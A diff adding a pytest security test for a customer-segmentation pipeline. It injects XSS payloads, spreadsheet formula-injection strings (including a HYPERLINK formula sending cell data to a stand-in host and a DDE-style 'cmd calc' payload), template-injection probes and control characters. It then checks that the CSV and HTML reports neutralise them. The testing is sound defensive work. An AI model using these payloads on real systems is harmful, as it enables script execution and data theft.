@@ -1,0 +1,114 @@
+"""Hostile text on the whole way: nothing of it executes in a browser or in a spreadsheet."""
+
+from __future__ import annotations
+
+import csv
+import shutil
+from functools import partial
+from pathlib import Path
+from typing import Any
+
+import pytest
+from conftest import ROOT, skip_unless
+from whole_way import go, rows_of_a_shop
+
+from pipeline.assign_segments import __main__ as assign_segments
+from pipeline.core.model.naming import read_playbook
+from pipeline.core.text.spreadsheet import FORMULA_STARTS
+from pipeline.profile_segments import __main__ as profile_segments
+
+CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
+TEXTS = (
+    "<script>window.hacked=1</script> MUG",
+    "</script><img src=x onerror=window.hacked=1> BOWL",
+    "\"'><svg/onload=window.hacked=1> CANDLE",
+    '=HYPERLINK("http://x.example/?"&A1,"LAMP")',
+    "@SUM(1+1)*cmd|' /C calc'!A0 BAG",
+    "+1 TOY", "-1 TIN", "\t=1+1 CARD", "＝1+1 FRAME",
+    "{{ 7*7 }}{% raw %}${7*7}%(x)s{0} CLOCK",
+    "javascript:window.hacked=1 RIBBON",
+    "🎁 هدية \u202eevil\u202c NECKLACE",
+    'two\nlines, a "quote" and <!-- a comment SIGN',
+    "\x1b[31m\x07 CUSHION",
+    "x" * 5000 + " JAR",
+)  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def shop(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A shop with hostile text wherever a person can put text, after every stage."""
+    folder = tmp_path_factory.mktemp("hostile")
+    rows = rows_of_a_shop(1800, 211)
+    for number, row in enumerate(rows):
+        text = TEXTS[number % len(TEXTS)]
+        row[1], row[2] = f"{text[:20]}{number % 45}", text
+        row[6] = f"{TEXTS[int(row[6]) % len(TEXTS)][:30]}{row[6]}"
+        row[7] = TEXTS[number * 7 % len(TEXTS)][:60] if number % 4 else "United Kingdom"
+    playbook = (ROOT / "pipeline/settings/playbook.yaml").read_text(encoding="utf-8")
+    changed = playbook.replace("    about: ", "    about: <script>window.hacked=1</script> ")
+    changed = changed.replace("names: [", "names: ['=1<img src=x onerror=window.hacked=1>', ")
+    names = changed.count("'=1<img")
+    for number in range(names):
+        changed = changed.replace("'=1<img", f"'={number + 2}<img", 1)
+    changed = changed.replace("for_customer:\n        - Show", "for_customer:\n        - =1+1 Show")
+    assert names > 5
+    (folder / "playbook.yaml").write_text(changed, encoding="utf-8")
+    with pytest.MonkeyPatch.context() as patch:
+        for stage in (assign_segments, profile_segments):
+            patch.setattr(stage, "read_playbook", partial(read_playbook, folder / "playbook.yaml"))
+        told = go(folder, patch, rows, shop=TEXTS[0], currency="<b>")
+    assert told is None
+    return folder
+
+
+def test_no_cell_of_any_exported_csv_would_execute(shop):
+    files = [*(shop / "reports").glob("*.csv")]
+    assert {f.name for f in files} == {"segments.csv", "products_to_review.csv"}
+    guarded = 0
+    for file in files:
+        with file.open(encoding="utf-8", newline="") as opened:
+            cells = [cell for row in csv.reader(opened) for cell in row]
+        numbers = {c for c in cells if c.lstrip("-").replace(".", "", 1).isdigit()}
+        texts = [c for c in cells if c not in numbers]
+        assert [c for c in texts if c.lstrip().startswith(FORMULA_STARTS)] == []
+        assert [c for c in cells if any(ord(letter) < 32 for letter in c)] == []
+        guarded += sum(c.startswith("'") for c in texts)
+    assert guarded > 50
+
+
+@pytest.mark.browser
+def test_nothing_of_it_executes_in_a_browser(shop):
+    skip_unless(CHROMIUM, "Debian's chromium")
+    playwright = pytest.importorskip("playwright.sync_api")
+    said: list[str] = []
+    asked: list[str] = []
+    with playwright.sync_playwright() as started:
+        browser = started.chromium.launch(
+            executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"]
+        )
+        page: Any = browser.new_page()
+        page.on("console", lambda message: said.append(message.text))
+        page.on("pageerror", lambda error: said.append(str(error)))
+        page.on("dialog", lambda dialog: said.append(dialog.message))
+        page.on("request", lambda request: asked.append(request.url))
+        address = (shop / "reports/segments.html").as_uri()
+        page.goto(address)
+        page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true })")
+        for chart in page.locator("[data-chart]").all():
+            chart.evaluate("e => e.scrollIntoView({ behavior: 'instant', block: 'center' })")
+            page.wait_for_function("e => e.dataset.alive", arg=chart.element_handle())
+        assert page.evaluate("window.hacked") is None
+        assert said == []
+        assert [url for url in asked if url != address and not url.startswith("data:")] == []
+        assert page.locator("img[src=x], svg[onload]").count() == 0
+        assert (
+            page.evaluate("[...document.querySelectorAll('a')].map(a => a.protocol)").count(
+                "javascript:"
+            )
+            == 0
+        )
+        # It is shown, as the text that it is.
+        text = page.evaluate("document.body.innerText")
+        assert "<script>window.hacked=1</script> MUG" in text
+        assert "window.hacked=1>" in text
+        browser.close()
